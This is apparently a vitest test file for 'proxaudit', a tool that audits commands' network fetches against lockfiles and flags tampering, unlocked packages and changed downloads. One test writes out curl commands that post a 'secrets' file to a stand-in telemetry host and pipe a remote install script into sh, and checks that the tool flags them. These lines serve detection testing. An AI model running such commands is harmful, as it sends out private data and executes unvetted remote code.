import { readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import type { Finding } from '../../src/model/finding.ts';
import type { Run } from '../../src/model/run.ts';
import { usePackageShop } from '../helpers/package-shop.ts';
import { tarballPath } from '../helpers/registries/npm/packages.ts';

const shop = usePackageShop('findings');
const inProject = (name: string) => join(shop().project, name);
const fetchAll = (...urls: string[]) => urls.map((url) => `curl -sSf ${url} -o /dev/null`).join(' && ');
const day = (offset: number) => new Date(Date.now() + offset * 86_400_000).toISOString().slice(0, 10);

async function report(): Promise<Run> {
  const result = await shop().user.proxaudit(['report', '--report', 'json', 'run.jsonl'], {
    cwd: shop().project,
  });
  expect(result.code).toBe(0);
  return JSON.parse(result.stdout.toString()) as Run;
}
const short = (findings: readonly Finding[]) =>
  findings.map(({ rule, level, subject }) => `${level} ${rule} ${subject}`);

/** Serves the first package with its last byte changed. */
function tamper(): void {
  const { files, packages } = shop();
  const bytes = Buffer.from(packages[0].tarball);
  bytes.writeUInt8(bytes.readUInt8(bytes.length - 1) ^ 1, bytes.length - 1);
  files.set(tarballPath(packages[0]), bytes);
}

describe('a command that succeeds', () => {
  it('with what the lockfile says has no findings, whatever would fail it', async () => {
    const { audit, packages, urlOf } = shop();
    const result = await audit(fetchAll(urlOf(packages[0])), '--fail-on', 'any');
    expect([result.code, result.stderr]).toEqual([0, expect.stringContaining('npm: 1 ')]);
    expect(result.stderr).not.toContain('Findings');
    expect((await report()).findings).toEqual([]);
  });

  it('with a tampered byte fails where --fail-on says so, and says why; the command’s own failure wins', async () => {
    const { audit, packages, urlOf, project } = shop();
    tamper();
    const line = fetchAll(urlOf(packages[0]));
    expect((await audit(line)).code).toBe(0);
    expect((await audit(line, '--fail-on', 'unlocked,new-host')).code).toBe(0);
    const result = await audit(line, '--fail-on', 'mismatch');
    expect(result.code).toBe(120);
    const purl = `pkg:npm/${packages[0].name}@${packages[0].version}`;
    expect(result.stderr).toContain(`✗ mismatch: ${purl}`);
    expect(result.stderr).toMatch(
      /\nproxaudit: exit 120, as --fail-on wants: mismatch: pkg:npm.*\n {2}Do not use/,
    );
    expect((await audit(line, '-q', '--fail-on', 'error')).stderr).toMatch(/^proxaudit: exit 120.*\n.*\n$/);
    expect((await audit(`${line}; exit 3`, '--fail-on', 'error')).code).toBe(3);

    const [finding] = (await report()).findings;
    const lines = readFileSync(join(project, 'package-lock.json'), 'utf8').split('\n');
    expect(finding?.location?.path).toBe('package-lock.json');
    expect(lines[(finding?.location?.line ?? 0) - 1]).toContain(`node_modules/${packages[0].name}`);
    const again = (...own: string[]) =>
      shop().user.proxaudit(['report', ...own, 'run.jsonl'], { cwd: project });
    expect((await again('--fail-on', 'unlocked')).code).toBe(0);
    const failed = await again('--fail-on', 'warning', '--report', 'json');
    expect([failed.code, failed.stderr]).toEqual([120, expect.stringContaining('exit 120')]);
  });

  it('with what no lockfile has is unlocked; with two contents of a URL it changed', async () => {
    const { audit, packages, urlOf, files } = shop();
    const [first, , third] = packages;
    const unlocked = await audit(fetchAll(urlOf(third)), '--fail-on', 'unlocked');
    expect(unlocked.code).toBe(120);
    expect(short((await report()).findings)).toEqual([
      `warning unlocked pkg:npm/${third.name}@${third.version}`,
    ]);
    files.set('/a.tar.gz', first.tarball);
    files.set('/b.tar.gz', third.tarball);
    const url = 'https://cdn.example/x.tar.gz';
    const line = ['a', 'b'].map((name) => `echo ${name} > next; curl -sSf ${url} -o /dev/null`).join(' && ');
    files.set('/x.tar.gz', first.tarball);
    const swap = setInterval(() => {
      try {
        if (readFileSync(inProject('next'), 'utf8') === 'b\n') files.set('/x.tar.gz', third.tarball);
      } catch {
        // Not yet.
      }
    }, 20);
    const result = await audit(line.replace('echo b > next;', 'echo b > next; sleep 1;'));
    clearInterval(swap);
    expect(result.code).toBe(0);
    expect((await report()).findings).toMatchObject([{ rule: 'changed', level: 'error' }]);
  });

  it('that sends data to a host that serves nothing, or pipes a script to a shell, is told of', async () => {
    const { audit, files, urlOf, packages } = shop();
    files.set('/install.sh', Buffer.from('#!/bin/sh\ntrue\n'));
    writeFileSync(inProject('secrets'), 'x'.repeat(6_000));
    const line =
      `curl -sSf --data-binary @secrets https://telemetry.example/collect && ` +
      `curl -sSf -d a=b https://registry.example/audit && ${fetchAll(urlOf(packages[0]))} && ` +
      `sh -c 'curl -sSf https://cdn.example/install.sh | sh'`;
    const result = await audit(line, '--fail-on', 'upload');
    expect(result.code).toBe(120);
    const { findings } = await report();
    expect(short(findings)).toEqual([
      'warning upload telemetry.example',
      'warning script-download https://cdn.example/install.sh',
    ]);
    expect(findings[0]?.message).toBe('it got 6.0 kB and gave back nothing');
    expect(findings[0]?.process?.name).toBe('curl');
  });

  it('fails as incomplete where it was', async () => {
    const { audit } = shop();
    const result = await audit(
      'curl -sS https://registry.example/x',
      '--passthrough',
      'registry.example',
      '--fail-on',
      'incomplete',
    );
    expect([result.code, result.stderr]).toEqual([120, expect.stringContaining('the run is incomplete: ')]);
  });
});

describe('waivers', () => {
  const config = (expires: string) =>
    `waivers:\n  - finding: mismatch\n    subject: "pkg:npm/*"\n    reason: rebuilt in TEAM-1\n    expires: ${expires}\n`;

  it('that are valid make findings not count, in reports elsewhere too; those that ended do not', async () => {
    const { audit, packages, urlOf, project } = shop();
    tamper();
    const line = fetchAll(urlOf(packages[0]));
    writeFileSync(inProject('proxaudit.yaml'), config(day(1)));
    const valid = await audit(line, '--fail-on', 'any');
    expect([valid.code, valid.stderr]).toEqual([0, expect.stringContaining('  · 1 waived\n')]);
    writeFileSync(inProject('proxaudit.yaml'), 'waivers: []\n');
    const { findings } = await report();
    expect(findings).toMatchObject([{ rule: 'mismatch', waiver: { reason: 'rebuilt in TEAM-1' } }]);
    const markdown = await shop().user.proxaudit(['report', '--report', 'markdown', 'run.jsonl'], {
      cwd: project,
    });
    expect(markdown.stdout.toString()).toContain('; waived: rebuilt in TEAM-1 (until ');

    writeFileSync(inProject('proxaudit.yaml'), config(day(-1)));
    const ended = await audit(line, '--fail-on', 'any');
    expect([ended.code, ended.stderr]).toEqual([120, expect.stringContaining(`ended on ${day(-1)}`)]);
  });

  it('that are wrong keep the command from being run', async () => {
    writeFileSync(inProject('proxaudit.yaml'), 'waivers:\n  - finding: mismatch\n    subject: x\n');
    const result = await shop().audit('echo ran');
    expect([result.code, result.stdout.toString()]).toEqual([125, '']);
    expect(result.stderr).toContain('proxaudit.yaml:2: the waiver has no reason');
  });
});

describe('lockfiles', () => {
  it('are those that are named, or none', async () => {
    const { audit, packages, urlOf, project } = shop();
    const line = fetchAll(urlOf(packages[2]));
    expect((await audit(line, '--no-lockfiles', '--fail-on', 'any')).code).toBe(0);
    expect((await report()).lockfiles).toEqual([]);
    const lock = readFileSync(join(project, 'package-lock.json'), 'utf8');
    writeFileSync(inProject('other.json'), lock);
    const unknown = await audit(`echo ran; ${line}`, '--lockfile', 'other.json');
    expect([unknown.code, unknown.stdout.toString()]).toEqual([125, '']);
    expect(unknown.stderr).toMatch(
      /other\.json is no lockfile that proxaudit knows\n {2}Expected a lockfile of npm/,
    );
    writeFileSync(inProject('npm-shrinkwrap.json'), lock.replace('"packages"', 'packages'));
    const damaged = await audit('echo ran', '--lockfile', 'npm-shrinkwrap.json');
    expect([damaged.code, damaged.stdout.toString()]).toEqual([125, '']);
    expect(damaged.stderr).toMatch(/npm-shrinkwrap\.json cannot be read as npm-lock: line 4: /);
    const missing = await audit('echo ran', '--lockfile', 'missing/package-lock.json');
    expect([missing.code, missing.stderr]).toEqual([125, expect.stringContaining('there is no such file')]);
    writeFileSync(inProject('requirements.txt'), 'left\n');
    const loose = await audit('echo ran', '--lockfile', 'requirements.txt');
    expect([loose.code, loose.stderr]).toEqual([
      125,
      expect.stringContaining('requirements.txt locks nothing'),
    ]);
  });
});

it('a journal that was changed or cut short is a finding of its report', async () => {
  const { audit, user, project } = shop();
  await audit('true');
  const journal = readFileSync(inProject('run.jsonl'), 'utf8');
  const codeOf = async (text: string, failOn: string) => {
    writeFileSync(inProject('edited.jsonl'), text);
    return (await user.proxaudit(['report', '--fail-on', failOn, 'edited.jsonl'], { cwd: project })).code;
  };
  expect(await codeOf(journal, 'error')).toBe(0);
  expect(await codeOf(journal.replace('"host"', '"Host"'), 'tampered')).toBe(120);
  expect(await codeOf(journal.slice(0, journal.lastIndexOf('{')), 'truncated')).toBe(120);
});
